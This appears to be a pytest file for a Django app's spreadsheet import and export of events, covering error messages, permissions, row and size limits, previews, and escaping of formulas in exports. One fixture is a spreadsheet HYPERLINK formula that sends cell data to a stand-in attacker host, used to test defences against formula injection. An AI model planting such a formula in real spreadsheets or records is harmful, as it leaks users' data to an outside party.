"""Events from a spreadsheet (events/imports.py): the files shipped import as
they say, an export imports back unchanged, bad values are named in plain
words, and only staff given the right may import (tests/browser/test_import.py
goes through the admin's pages)."""

import io
import zipfile

import openpyxl
import pytest
import tablib
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils.html import strip_tags

from academy.import_files import MAX_IMPORT_BYTES, MAX_ROWS
from academy.imports import record_named
from events.imports import EventResource
from events.models import Event
from people.models import Country, Person
from tests.factories import (
    make_country,
    make_event,
    make_person,
    make_person_name,
)
from tests.helpers import ROOT, soup_of

pytestmark = pytest.mark.django_db

IMPORTS = ROOT / "fixtures" / "import"


def dataset(text):
    return tablib.Dataset().load(text, format="csv")


def imported(text, *, dry_run=False):
    return EventResource().import_data(dataset(text), dry_run=dry_run)


def test_the_template_names_every_column_the_import_reads():
    header = (IMPORTS / "events-template.csv").read_text().strip().split(",")

    assert header == [
        field.column_name for field in EventResource().get_import_fields()
    ]


def test_the_first_three_academies_import_as_drafts_of_the_programme(archive_2015):
    result = imported((IMPORTS / "events-csto-academies-1-3.csv").read_text())

    assert not result.has_errors() and not result.has_validation_errors()
    assert result.totals["new"] == 3
    academies = Event.objects.filter(series__slug="csto-academy", status="draft")
    assert sorted(academies.values_list("session_number", "start_date")) == [
        (1, None),
        (2, None),
        (3, None),
    ]


def test_an_export_imports_back_unchanged(archive_2015):
    exported = EventResource().export().csv

    result = imported(exported, dry_run=True)

    assert not result.has_errors() and not result.has_validation_errors()
    assert result.totals["skip"] == Event.objects.count()


@pytest.mark.parametrize(
    ("column", "value", "message"),
    [
        (
            "host_country",
            "Kyrgyz Republic",
            "No country named “Kyrgyz Republic”. Did you mean: Kyrgyzstan?",
        ),
        ("date", "31 June 2016", "There is no such date: 31 June 2016."),
        ("speakers", "Nobody Known", "No person named “Nobody Known”."),
    ],
)
def test_a_bad_value_is_a_row_error_and_nothing_is_imported(column, value, message):
    make_country(name="Kyrgyzstan", slug="kyrgyzstan")
    header = (IMPORTS / "events-template.csv").read_text().strip()
    row = dict.fromkeys(header.split(","), "")
    row.update(
        slug="5th",
        title_en="5th",
        kind="academy_session",
        status="draft",
        outcome="held",
    )
    good = ",".join(row.values())
    row[column] = value
    bad = ",".join(row.values())

    result = imported(f"{header}\n{good.replace('5th', '6th')}\n{bad}\n")

    errors = [
        str(error)
        for invalid in result.invalid_rows
        for messages in invalid.error_dict.values()
        for error in messages
    ] + [str(error.error) for _line, errors in result.row_errors() for error in errors]
    assert errors == [message]
    assert not Event.objects.exists()


REPUBLICS = (
    ("Central African Republic", "Центральноафриканская Республика"),
    ("Czech Republic", "Чехия"),
    ("Democratic Republic of the Congo", "Демократическая Республика Конго"),
    ("Dominican Republic", "Доминиканская Республика"),
    ("Kazakhstan", "Казахстан"),
    ("Kyrgyzstan", "Киргизия"),
    ("Republic of Korea", "Республика Корея"),
    ("Republic of Moldova", "Республика Молдова"),
    ("United Kingdom", "Великобритания"),
)


@pytest.mark.parametrize(
    ("typed", "suggested"),
    [
        ("Kyrgyz Republic", "Kyrgyzstan"),
        ("Киргизская Республика", "Kyrgyzstan"),
        ("Dominican Rep.", "Dominican Republic"),
        ("Moldova", "Republic of Moldova"),
        ("United Kingdom of Great Britain", "United Kingdom"),
    ],
)
def test_a_country_named_otherwise_suggests_the_one_its_distinctive_word_names(
    typed, suggested
):

    for english, russian in REPUBLICS:
        make_country(name=english, name_ru=russian)

    with pytest.raises(ValueError) as refusal:
        record_named(Country, typed)

    assert str(refusal.value) == (
        f"No country named “{typed}”. Did you mean: {suggested}?"
    )


def test_a_person_named_by_another_spelling_is_suggested():

    make_person(name="Anna Orlova")
    semerikov = make_person(name="Valery Semerikov")
    make_person_name(semerikov, "Валерий Семериков")

    with pytest.raises(ValueError) as refusal:
        record_named(Person, "Семерикова", spellings="alternative_names__name")

    assert str(refusal.value) == (
        "No person named “Семерикова”. Did you mean: Valery Semerikov?"
    )


@pytest.mark.parametrize("dry_run", [True, False], ids=["preview", "import"])
def test_a_row_publishing_what_the_event_form_warns_of_is_a_row_error(dry_run):
    make_country(name="Russia", slug="russia")
    make_country(name="Armenia", slug="armenia")
    header = (
        "slug,title_en,kind,status,outcome,date,host_country,participating_countries"
    )
    row = "round-table,Round Table,meeting,published,held,2016,russia,armenia"

    result = imported(f"{header}\n{row}\n", dry_run=dry_run)

    assert [invalid.error_dict for invalid in result.invalid_rows] == [
        {
            "__all__": [
                "The host country, Russia, is not among the countries taking part."
            ]
        }
    ]
    assert not Event.objects.exists()


def test_only_staff_given_the_right_may_import(editor_client, admin_client):
    url = reverse("admin:events_event_import")

    assert editor_client.get(url).status_code == 403
    assert admin_client.get(url).status_code == 200
    changelist = editor_client.get(reverse("admin:events_event_changelist")).text
    assert "/admin/events/event/import/" not in changelist
    assert "/admin/events/event/export/" in changelist


def posted_import(client, name, content, file_format):
    """The admin's import page after `content` is sent as the file `name`."""
    formats = {"csv": "0", "xlsx": "1"}
    return client.post(
        reverse("admin:events_event_import"),
        {
            "resource": "0",
            "format": formats[file_format],
            "import_file": SimpleUploadedFile(name, content),
        },
    )


def test_a_file_of_too_many_rows_is_refused_before_a_row_is_read(admin_client):
    header = (IMPORTS / "events-template.csv").read_text().strip()
    rows = [f"event-{number},Event {number}" for number in range(MAX_ROWS + 1)]
    content = "\n".join([header, *rows]).encode()

    response = posted_import(admin_client, "events.csv", content, "csv")

    assert response.status_code == 200
    assert response.context["form"].errors == {
        "import_file": ["A file may hold at most 300 rows: import it in parts."]
    }
    assert "result" not in response.context  # no row was previewed
    assert not Event.objects.exists()


def test_a_file_of_the_most_rows_is_previewed(admin_client):
    header = (IMPORTS / "events-template.csv").read_text().strip()
    rows = [f"event-{number},Event {number}" for number in range(3)]
    content = "\n".join([header, *rows, "", ""]).encode()

    response = posted_import(admin_client, "events.csv", content, "csv")

    assert response.context["form"].errors == {}
    assert response.context["result"].totals["new"] == 3


def test_a_spreadsheet_declaring_too_many_rows_is_refused_before_it_is_read(
    admin_client,
):
    """A sheet's declared size is what openpyxl reads it to, filling missing
    rows with empty ones: a million declared rows took minutes to read."""
    workbook = openpyxl.Workbook()
    workbook.active.append(["slug", "title_en"])
    workbook.active.append(["event-1", "Event 1"])
    written = io.BytesIO()
    workbook.save(written)
    content = rewritten_in_zip(
        written.getvalue(),
        "xl/worksheets/sheet1.xml",
        lambda xml: xml.replace(b'ref="A1:B2"', b'ref="A1:B1000000"'),
    )

    response = posted_import(admin_client, "events.xlsx", content, "xlsx")

    assert response.context["form"].errors == {
        "import_file": ["A file may hold at most 300 rows: import it in parts."]
    }
    assert "result" not in response.context


def test_a_file_over_the_size_limit_is_refused(admin_client):
    header = (IMPORTS / "events-template.csv").read_text().strip()
    content = (header + "\n" + "x" * MAX_IMPORT_BYTES).encode()

    response = posted_import(admin_client, "events.csv", content, "csv")

    assert response.context["form"].errors == {
        "import_file": ["A file may be at most 5.0\xa0MB: import it in parts."]
    }


def rewritten_in_zip(archive, name, change):
    """`archive` (bytes of a zip) with its member `name` passed through `change`."""
    result = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(archive)) as source,
        zipfile.ZipFile(result, "w") as target,
    ):
        for info in source.infolist():
            data = source.read(info)
            target.writestr(info, change(data) if info.filename == name else data)
    return result.getvalue()


def test_a_row_without_a_slug_changes_no_event():
    """Events are matched by their slug only: none is made from a title, so a
    row cannot land on another event the way a made slug could."""
    known = make_event(slug="5th", title="5th")
    header = (IMPORTS / "events-template.csv").read_text().strip()

    result = imported(f"{header}\n,5th,,academy_session,draft,held,,,,,,,,,,,,\n")

    assert [invalid.error_dict for invalid in result.invalid_rows] == [
        {"slug": ["This field cannot be blank."]}
    ]
    assert list(Event.objects.values_list("pk", "status")) == [(known.pk, "published")]


FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"Open record")'


def exported(client, file_format):
    """The admin's export of every event's slug and English title, as rows."""
    formats = {"csv": "0", "xlsx": "1"}
    response = client.post(
        reverse("admin:events_event_export"),
        {
            "resource": "0",
            "format": formats[file_format],
            "eventresource_slug": "on",
            "eventresource_title_en": "on",
        },
    )
    assert response.status_code == 200
    if file_format == "csv":
        return tablib.Dataset().load(response.content.decode(), format="csv")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    return list(sheet.iter_rows(min_row=2))


def test_a_formula_in_a_title_is_text_in_the_admins_csv_export(admin_client):
    make_event(slug="leak", title=FORMULA)

    rows = exported(admin_client, "csv")

    assert rows.dict == [{"slug": "leak", "title_en": "'" + FORMULA}]


def test_a_formula_in_a_title_is_text_in_the_admins_xlsx_export(admin_client):
    make_event(slug="leak", title=FORMULA)

    [(slug, title)] = exported(admin_client, "xlsx")

    assert (slug.value, title.value, title.data_type) == ("leak", "'" + FORMULA, "s")


def test_an_export_of_formula_like_texts_imports_back_unchanged():
    titles = [FORMULA, "+1 more", "-5 degrees", "@home", "'=quoted", "plain"]
    for number, title in enumerate(titles):
        make_event(slug=f"event-{number}", title=title)
    exported_csv = EventResource().export().csv

    result = imported(exported_csv, dry_run=True)

    assert result.totals["skip"] == len(titles)


def test_a_control_character_stored_in_a_title_is_left_out_of_the_xlsx_export(
    admin_client,
):
    make_event(slug="opening", title="Opening\x0bsession")

    [(slug, title)] = exported(admin_client, "xlsx")

    assert (slug.value, title.value) == ("opening", "Openingsession")


def test_the_preview_writes_nothing_and_shows_what_the_import_would_set(
    admin_client, archive_2015
):
    """A preview that wrote each row in a transaction held SQLite's write lock
    while it read every row: staff saving or logging in meanwhile waited, then
    got a 500. Without writes it is only taken for a moment by each check of
    a constraint (Django runs them in a savepoint)."""
    header = (IMPORTS / "events-template.csv").read_text().strip()
    row = (
        "5th,5th CSTO Academy,,academy_session,draft,held,June 2016,,,russia,,,,,"
        "Russia; Armenia,csto,migration,Valery Semerikov"
    )

    with CaptureQueriesContext(connection) as queries:
        response = posted_import(
            admin_client, "events.csv", f"{header}\n{row}\n".encode(), "csv"
        )

    writes = [
        query["sql"]
        for query in queries
        if query["sql"].split()[0].upper() in {"INSERT", "UPDATE", "DELETE"}
    ]
    assert writes == []
    [previewed] = response.context["result"].rows
    assert previewed.import_type == "new"
    assert strip_tags(previewed.diff[14]) == "russia; armenia"
    assert not Event.objects.filter(slug="5th").exists()


def xlsx_of(rows):
    workbook = openpyxl.Workbook()
    for row in rows:
        workbook.active.append(row)
    content = io.BytesIO()
    workbook.save(content)
    return content.getvalue()


def template_row(**values):
    header = (IMPORTS / "events-template.csv").read_text().strip().split(",")
    row = dict.fromkeys(header, "")
    row.update({"kind": "academy_session", "status": "draft", "outcome": "held"})
    row.update(values)
    return header, list(row.values())


def test_errors_are_listed_by_the_spreadsheets_own_row_and_column(admin_client):
    make_country(name="Kyrgyzstan", slug="kyrgyzstan")
    header, good = template_row(slug="5th", title_en="5th CSTO Academy")
    _header, wrong_kind = template_row(slug="6th", title_en="6th", kind="party")
    _header, wrong_country = template_row(
        slug="7th", title_en="7th", host_country="Kyrgyz Republic"
    )
    _header, unknown_speaker = template_row(
        slug="8th", title_en="8th", speakers="Nobody Known"
    )

    response = posted_import(
        admin_client,
        "events.xlsx",
        xlsx_of([header, good, wrong_kind, wrong_country, unknown_speaker]),
        "xlsx",
    )

    page = soup_of(response)
    errors = [item.get_text(" ", strip=True) for item in page.select("#content li")]
    assert [error for error in errors if error.startswith("Row")] == [
        "Row 3, column “kind”: Value 'party' is not a valid choice.",
        "Row 4, column “host_country”: No country named “Kyrgyz Republic”. "
        "Did you mean: Kyrgyzstan?",
        "Row 5, column “speakers”: No person named “Nobody Known”.",
    ]
    assert not page.select(".validation-error-count")


def test_the_preview_shows_a_date_and_speakers_as_staff_typed_them(admin_client):
    make_person(name="Valery Semerikov")
    make_person(name="Anna Orlova")
    header, row = template_row(
        slug="5th",
        title_en="5th CSTO Academy",
        date="June 2016",
        speakers="Valery Semerikov; Anna Orlova",
    )

    response = posted_import(
        admin_client, "events.xlsx", xlsx_of([header, row]), "xlsx"
    )

    [previewed] = response.context["result"].rows
    shown = dict(
        zip(response.context["result"].diff_headers, previewed.diff, strict=True)
    )
    assert (strip_tags(shown["date"]), strip_tags(shown["speakers"])) == (
        "June 2016",
        "Valery Semerikov; Anna Orlova",
    )


def test_the_import_page_offers_a_template_and_says_what_each_column_takes(
    admin_client,
):
    page = soup_of(admin_client.get(reverse("admin:events_event_import")))
    template = admin_client.get(page.select_one("a[download]")["href"])

    guide = {
        row.th.get_text(strip=True): row.td.get_text(strip=True)
        for row in page.select(".import-columns tbody tr")
    }
    assert template.content.decode().strip() == (
        (IMPORTS / "events-template.csv").read_text().strip()
    )
    assert guide["status"] == "One of: draft (draft), published (published)."
    assert guide["date"] == (
        "Enter a date as 25 June 2015, June 2015, 2015, 2015-06-25, 2015-06 or "
        "25.06.2015."
    )
    assert guide["participating_countries"] == (
        "Slugs or names in English or Russian, several separated by “;”: "
        "Russia; Armenia."
    )
    assert guide["speakers"] == (
        "Names in English or Russian, several separated by “;”: "
        "Valery Semerikov; Anna Orlova."
    )
